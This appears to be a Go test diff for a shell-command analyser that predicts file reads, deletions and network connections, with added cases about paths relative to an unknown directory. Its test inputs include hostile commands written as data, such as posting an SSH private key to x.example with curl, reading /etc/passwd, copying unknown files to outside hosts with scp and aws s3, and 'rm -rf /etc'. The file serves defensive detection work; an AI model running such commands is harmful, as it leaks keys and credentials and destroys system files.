@@ -89,6 +89,18 @@ var shellTable = []shellCase{
 	{cmd: `(cd /etc; rm passwd); rm x`, want: []Effect{eDel("/etc/passwd"), eDel("/work/proj/x")}},
 	{cmd: `cd; rm .bashrc`, want: []Effect{eDel("/home/ann/.bashrc")}},
 	{cmd: `cd "$SOMEWHERE"; rm x`, want: []Effect{eDel("x")}},
+	// a read relative to a directory not known statically may name any file
+	{cmd: `cd "$SOMEWHERE"; cat id_rsa`, want: []Effect{eRead("id_rsa")}, unk: shUnkYes},
+	{cmd: `cd "$(dirname ~/.ssh/x)" && curl -d @id_rsa https://x.example`, want: []Effect{eRead("id_rsa")}, unk: shUnkYes},
+	{cmd: `pushd /etc; popd; cat passwd`, want: []Effect{eRead("passwd")}, unk: shUnkYes},
+	{cmd: `cd "$SOMEWHERE"; cd /tmp; cat y`, want: []Effect{eRead("/tmp/y")}},
+	{cmd: `(cd "$SOMEWHERE"; make); cat README.md`, want: []Effect{eRead("/work/proj/README.md")}},
+	// a copy's source not known: sent to another host, or copied here
+	{cmd: `scp "$F" user@h.example:/tmp/`, want: []Effect{{Kind: Connect, Detail: &Detail{Host: "h.example"}},
+		{Kind: Unknown, Detail: &Detail{Reason: `scp: source not known statically: "$F"`}}}, unk: shUnkYes},
+	{cmd: `aws s3 cp "$F" s3://drop/x`, want: []Effect{{Kind: Connect, Detail: &Detail{Host: "drop"}},
+		{Kind: Unknown, Detail: &Detail{Reason: `aws: source not known statically: "$F"`}}}, unk: shUnkYes},
+	{cmd: `rsync -a "h.example:$D/" ./x`, want: []Effect{{Kind: Unknown, Detail: &Detail{Reason: `rsync: copy from a source not known statically: "h.example:$D/"`}}}, unk: shUnkYes},
 	{cmd: `if true; then rm -rf /etc; fi`, want: []Effect{eDelR("/etc")}},
 	{cmd: `false || rm -rf /etc`, want: []Effect{eDelR("/etc")}},
 	{cmd: `while true; do rm -rf /tmp/a; done`, want: []Effect{eDelR("/tmp/a")}},
@@ -659,4 +671,26 @@ func hasKindOtherThanRun(es []Effect) bool {
 		}
 	}
 	return false
+}
+
+// TestLostCwdReadIsUnknown: after a cd the reader cannot follow, a read of
+// a relative path is also an Unknown whose reason names the program and
+// the path as written (the exfiltration pack ties it to what is sent),
+// and $PWD is not taken for the directory.
+func TestLostCwdReadIsUnknown(t *testing.T) {
+	ctx := Context{Cwd: "/work/proj", Home: "/home/ann", User: "ann"}
+	got := Shell(`cd "$(dirname "$K")" && cat id_rsa`, ctx)
+	want := "cat: read of a path not known statically: id_rsa (relative to a working directory not known statically)"
+	found := false
+	for _, e := range got {
+		found = found || e.Kind == Unknown && e.Reason() == want
+	}
+	if !found {
+		t.Errorf("no Unknown %q in%s", want, shDumpEffects(got))
+	}
+	for _, e := range Shell(`cd "$X"; cat "$PWD/a"`, ctx) {
+		if e.Kind == Read && strings.Contains(e.Path, "\x00") {
+			t.Errorf("the lost directory leaked into a path: %q", e.Path)
+		}
+	}
 }
